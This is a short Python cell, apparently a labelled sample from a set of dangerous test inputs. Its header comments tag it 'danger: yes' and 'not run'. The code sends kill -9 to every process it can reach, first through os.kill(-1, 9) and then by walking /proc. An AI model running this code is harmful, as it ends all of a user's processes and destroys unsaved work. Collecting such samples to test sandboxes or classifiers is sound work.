# intent: kill -9 of every process that can be reached
# family: death
# danger: yes
# stock: not run: it would end every process of this machine's user
# sibling: yes

# %%
import os

try:
    os.kill(-1, 9)
except OSError:
    pass
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        try:
            os.kill(int(name), 9)
        except OSError:
            pass
